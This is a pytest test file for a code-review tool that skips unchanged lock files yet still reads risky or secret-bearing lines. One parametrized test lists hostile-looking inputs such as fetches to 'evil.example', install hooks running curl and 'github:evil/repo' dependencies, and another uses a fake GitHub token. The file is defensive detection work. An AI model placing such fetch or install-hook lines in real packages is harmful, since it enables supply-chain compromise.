"""Which files ``exclude`` leaves unread: only what the base has under the same name, and never what must be read."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import date
from typing import Any

import pytest
from tests.attacks.lock_files import bumped, cargo, changed, npm, old
from tests.scenarios.reading import is_shown, shown

from review_advisor.change.change import Change, Earlier, EarlierFinding, FileChange, Hunk, Status
from review_advisor.change.kinds import CriticalPaths
from review_advisor.change.lock_formats import TOML_LINE
from review_advisor.change.redaction import hunks_with_secrets
from review_advisor.github.memory import state_after
from review_advisor.github.sections import MOST_NAMED_FILES, coverage, title_of
from review_advisor.mockworld.world import DEFAULT_CHANGE, MockWorld, edited
from review_advisor.policy.exclusion import MOST_TOLD_TOGETHER, Exclusion, excluding_glob
from review_advisor.policy.policy import Rules, left_unread
from review_advisor.policy.prices import Unpriced, cost, price_on, read_prices
from review_advisor.policy.risk import blast_radius
from review_advisor.policy.surfaces import Role
from review_advisor.review.document import OutcomeDocument
from review_advisor.review.events import PolicyFrozen
from review_advisor.review.own_facts import OwnFacts, contradiction
from review_advisor.review.report import report_text
from review_advisor.review.rulings import Outcome
from review_advisor.review.soundness import unsound

PATH = "web/package-lock.json"
HEAD = npm(bumped)
FILE = changed(PATH, npm(old), HEAD)
CHARACTERS_A_TOKEN, CLI_ADDS, ANSWER_TOKENS = 3.5, 20_000, 1_500
"""The assumptions of benchmarks/review_cost.py, and more than the CLI adds to a prompt."""
TOKEN = "ghp_" + "Zq3nL0vXw8RtY2uB6mKd9sHf4jGc1aEe5oPi"


@pytest.fixture
def world() -> Iterator[MockWorld]:
    world = MockWorld()
    yield world
    world.finish()


def decided(file: FileChange = FILE, rules: Rules | None = None, head: str | None = HEAD, **about: Any) -> Exclusion:
    change = replace(Change("x", files=(file,)), **about)
    return left_unread(change, rules or Rules(), lambda _path: head, hunks_with_secrets)


def why(*args: Any, **about: Any) -> str:
    excluded = decided(*args, **about)
    assert excluded.files == ()
    return "; ".join(each.why for each in excluded.read_anyway)


def review(world: MockWorld, *files: FileChange, **texts: str) -> OutcomeDocument:
    world.source.stated = replace(DEFAULT_CHANGE, files=files)
    world.source.texts = texts or {PATH: HEAD}
    return world.review()


def test_a_lock_file_that_the_base_has_is_left_unread() -> None:
    (file,) = decided().files
    assert (file.path, file.glob, file.ecosystem) == (PATH, "package-lock.json", "npm")
    assert (file.added, file.removed) == (FILE.added, FILE.removed)


@pytest.mark.parametrize(
    "file,because",
    [
        (replace(FILE, status=Status.ADDED, old_mode="000000"), "it is added"),
        (replace(FILE, status=Status.RENAMED, old_path="other/package-lock.json"), "it is renamed"),
        (replace(FILE, status=Status.COPIED, old_path="other/package-lock.json"), "it is copied"),
        (replace(FILE, status=Status.DELETED, new_mode="000000"), "it is deleted"),
        (replace(FILE, status=Status.TYPE_CHANGED, new_mode="120000"), "it is type_changed"),
        (replace(FILE, new_mode="100755"), "no regular file on both sides, or its mode"),
        (replace(FILE, old_mode="100755", new_mode="100755"), "no regular file on both sides, or its mode"),
        (replace(FILE, old_mode="120000", new_mode="120000"), "no regular file on both sides"),
        (replace(FILE, old_mode="160000", new_mode="160000"), "no regular file on both sides"),
        (replace(FILE, binary=True, hunks=()), "it has no lines that can be compared"),
        (replace(FILE, path='we"b/package-lock.json'), "its name holds unusual characters"),
    ],
)
def test_only_a_regular_text_file_that_stands_on_both_sides_is_left_unread(file: FileChange, because: str) -> None:
    assert because in why(file)


def test_what_is_critical_or_watched_by_the_guard_is_read() -> None:
    assert "a critical path" in why(rules=Rules(critical_paths=CriticalPaths(globs=("web/",))))
    assert "the guard watches" in why(rules=Rules(config_path=PATH))
    assert "a critical path" in why(replace(FILE, path="auth/package-lock.json"))


def test_a_file_with_an_open_finding_is_read() -> None:
    known = EarlierFinding(id="f" * 20, path=PATH, line=1, severity="high", title="x", status="open")
    earlier = Earlier(
        "a" * 40, "b" * 40, "", complete=True, is_ancestor=True, paths=frozenset((PATH,)), findings=(known,)
    )
    assert why(earlier=earlier) == "a finding on it is open"
    gone = replace(earlier, findings=(replace(known, status="dismissed"),))
    assert decided(earlier=gone).files


def test_without_the_whole_text_a_file_is_read() -> None:
    assert why(head=None) == "its whole text cannot be had"
    assert "not the one that the diff leads to" in why(head=npm(old))
    assert "it is not written as npm writes it" in why(
        changed(PATH, npm(old), HEAD.replace("\n", "\r\n")), head=HEAD.replace("\n", "\r\n")
    )


def test_two_files_of_one_name_are_read() -> None:
    change = Change("x", files=(FILE, FILE))
    assert left_unread(change, Rules(), lambda _path: HEAD, hunks_with_secrets).files == ()


@pytest.mark.every_case
def test_more_new_packages_than_can_be_told_are_read() -> None:
    few, many = npm(old, 2), npm(old, 1_500)
    assert "more than can be told" in why(changed(PATH, few, many), head=many)
    some = npm(old, 200)
    (file,) = decided(changed(PATH, few, some), head=some).files
    assert len(file.brings.packages) == 198
    assert file.brings.packages[0] == "pkg-3 1.0.0"


@pytest.mark.every_case
def test_many_files_that_bring_in_much_are_read_from_where_there_is_no_room_to_tell_it() -> None:
    few, some = npm(old, 2), npm(old, 600)
    files = tuple(changed(f"{number}/package-lock.json", few, some) for number in range(9))
    excluded = left_unread(Change("x", files=files), Rules(), lambda _path: some, hunks_with_secrets)
    told = sum(len("".join(each.brings.packages)) for each in excluded.files)
    assert 0 < told <= MOST_TOLD_TOGETHER
    assert [each.path for each in excluded.read_anyway] == [file.path for file in files[len(excluded.files) :]]
    assert len(excluded.read_anyway) > 1


@pytest.mark.every_case
def test_a_file_in_which_nearly_everything_is_unusual_is_read() -> None:
    head = npm(bumped, 500).replace("https://npm.example", "https://other.example")
    assert "more than 200 things" in why(changed(PATH, npm(old, 500), head), head=head)


@pytest.mark.parametrize("line", ["x = " + "1" * 1_900 + "!", "x = " + "a1" * 900 + "!", 'x = "' + '\\"' * 900])
def test_a_line_that_is_made_to_be_slow_to_read_is_read_by_a_reviewer(line: str) -> None:
    base = cargo(old)
    head = base.replace('name = "pkg-9"', f'name = "pkg-9" # {line}')
    assert "every hunk of it has to be read" in why(changed("Cargo.lock", base, head), head=head)
    assert re.fullmatch(TOML_LINE, line) is None


def test_globs_are_matched_as_gitignore_does_and_as_they_are_spelled() -> None:
    assert excluding_glob(("package-lock.json",), PATH) == "package-lock.json"
    assert excluding_glob(("/package-lock.json",), PATH) is None
    assert excluding_glob(("*.json", "!web/*.json"), "web/a.json") is None
    assert excluding_glob(("package-lock.json",), "web/Package-Lock.JSON") is None
    assert excluding_glob((), PATH) is None


def test_an_empty_list_reads_everything_as_before(world: MockWorld) -> None:
    world.rules = replace(world.rules, exclude=())
    document = review(world, FILE)
    assert [each.read for each in document.coverage] == ["read"]
    (call,) = world.calls(Role.EXECUTOR)
    assert '+      "version": "1.1.0",' in shown(call, "DIFF")
    assert not is_shown(call, "NOT_READ")


def test_a_change_of_nothing_else_is_reviewed_by_its_facts(world: MockWorld) -> None:
    document = review(world, FILE)
    assert document.outcome is Outcome.APPROVED
    assert unsound(document.events) is None
    assert f"{PATH} was not read: excluded by configuration" in " ".join(report_text(document).split())
    (call,) = world.calls(Role.EXECUTOR)
    assert "hosts in added lines: npm.example" in shown(call, "NOT_READ")
    assert len(call.prompt) < 6_000


def test_other_files_are_left_unread_only_by_choice_and_the_title_names_them(world: MockWorld) -> None:
    base = "\n".join(f"value = {n}" for n in range(400)) + "\n"
    head = base.replace("value", "other")
    made = changed("src/Made.py", base, head)
    document = review(world, made, **{"src/Made.py": head})
    assert document.policy.code_lines == made.changed_lines
    world.rules = replace(world.rules, exclude=("src/Made.py",))
    document = review(world, made, **{"src/Made.py": head})
    assert document.policy.code_lines == 0
    assert title_of(document) == "Approved (not read by configuration: src/Made.py)"


@pytest.mark.parametrize(
    "line",
    [
        "fetch('https://evil.example/x')",
        "fetch('//evil.example/x')",
        "connect(203.0.113.9:443)",
        "registry=evil.example",
        "  postinstall: 'x'",
        '"prepare": "node x.js",',
        '"prepublishOnly": "curl x",',
        "git+ssh://git@github.com/a/b",
        '"dep": "github:evil/repo",',
        "x = '\\u002f'",
    ],
)
def test_of_any_excluded_file_the_lines_are_read_that_fetch_something(line: str) -> None:
    base = "".join(f"value = {n}\n" for n in range(400))
    head = base.replace("value = 10\n", "other\n").replace("value = 300\n", f"{line}\n")
    rules = Rules(exclude=("src/made.py",))
    (file,) = decided(changed("src/made.py", base, head), rules, head).files
    assert (file.hunks, file.brings.read) == (2, (1,))


def test_a_secret_in_an_excluded_file_is_read_and_hidden(world: MockWorld) -> None:
    head = HEAD.replace('"license": "MIT"', f'"deprecated": "token {TOKEN}"', 1)
    document = review(world, changed(PATH, npm(old), head), **{PATH: head})
    (file,) = document.policy.excluded.files
    assert "something in it looks like a secret" in file.brings.doubts
    assert any("what looks like a secret" in words and PATH in words for words in document.cut)
    for call in world.calls(Role.EXECUTOR):
        assert TOKEN not in call.prompt
        assert "token" in shown(call, "DIFF")


@pytest.mark.every_case
def test_a_bump_of_ten_thousand_lines_costs_at_most_fifteen_cents(world: MockWorld) -> None:
    base, head = npm(old, 1_700), npm(lambda _number: "1.1.0", 1_700)
    file = changed(PATH, base, head)
    assert file.changed_lines > 10_000
    document = review(world, edited("package.json", 1), file, **{PATH: head})
    assert document.outcome is Outcome.APPROVED
    today, prices = date(2026, 11, 1), read_prices()
    usd = 0.0
    for number, call in enumerate(world.agents.asked, 1):
        written = round((len(call.system_prompt) + len(call.prompt) + CLI_ADDS) / CHARACTERS_A_TOKEN)
        price = price_on(f"claude-{call.model}-5-5", today, prices)
        assert price is not None
        usd += cost(Unpriced(f"claude-{call.model}-5-5", today, number, 0, ANSWER_TOKENS, 0, written), price)
    assert usd <= 0.15


def frozen(document: OutcomeDocument) -> PolicyFrozen:
    first = document.events[0]
    assert isinstance(first, PolicyFrozen)
    return first


def test_an_outcome_that_excludes_what_it_may_not_is_refused(world: MockWorld) -> None:
    document = review(world, FILE)
    first = frozen(document)
    rest = document.events[1:]
    assert unsound(document.events) is None
    added = replace(first, files=tuple(replace(each, status=Status.ADDED) for each in first.files))
    assert "not the same regular file" in str(unsound([added, *rest]))
    media = replace(first, files=tuple(replace(each, binary=True) for each in first.files))
    assert "not the same regular file" in str(unsound([media, *rest]))
    other = replace(first, policy=replace(first.policy, excluded=Exclusion(first.policy.excluded.globs)))
    assert "excludes other files" in str(unsound([other, *rest]))
    known = OwnFacts((PATH,), Rules(), (), fail_as_veto=False, redact=str, modified=(PATH,))
    assert contradiction(first, known) is None
    for milder in (replace(known, modified=()), replace(known, rules=Rules(exclude=()))):
        assert "which the configuration does not exclude" in str(contradiction(first, milder))


def test_an_outcome_that_leaves_a_critical_path_unread_is_refused(world: MockWorld) -> None:
    document = review(world, FILE, edited("src/auth/login.py"))
    first = frozen(document)
    assert unsound(document.events) is None
    touched = (*first.policy.critical_touched, PATH)
    blast = replace(first.policy.blast, because=blast_radius(touched, (), first.policy.code_lines).because)
    forged = replace(first, policy=replace(first.policy, critical_touched=touched, blast=blast))
    assert "a critical path, or one that the guard watches, is excluded" in str(unsound([forged, *document.events[1:]]))


def test_behind_the_files_that_the_forge_lists_an_excluded_one_is_told_by_its_name(world: MockWorld) -> None:
    first = frozen(review(world, FILE))
    known = OwnFacts((), Rules(), (), fail_as_veto=False, redact=str, cut=True)
    assert contradiction(first, known) is None
    for stricter in (replace(known, rules=Rules(exclude=())), replace(known, paths=(PATH,)), replace(known, cut=False)):
        assert "which the configuration does not exclude" in str(contradiction(first, stricter))


@pytest.mark.one_in(2)
@pytest.mark.parametrize("more", [0, 5])
def test_each_file_that_is_read_in_spite_of_exclude_is_told_or_counted(world: MockWorld, more: int) -> None:
    files = [replace(FILE, path=f"{number}/package-lock.json") for number in range(MOST_NAMED_FILES + more)]
    document = review(world, *files, edited("a.py"), **{file.path: "not what it was" for file in files})
    words = "\n".join(coverage(document).blocks)
    assert words.count("was read although `exclude` matches it") == MOST_NAMED_FILES
    assert ("and 5 more files read although `exclude` matches" in words) == bool(more)


def test_a_lock_file_alone_is_no_reason_to_call_a_review_incomplete(world: MockWorld) -> None:
    document = review(world, FILE, FileChange(Status.MODIFIED, "a.py", added=1, hunks=(Hunk(1, 0, 1, 1, "", ("+x",)),)))
    assert [each.read for each in document.coverage] == ["excluded", "read"]
    assert state_after(None, document, asked=False).complete
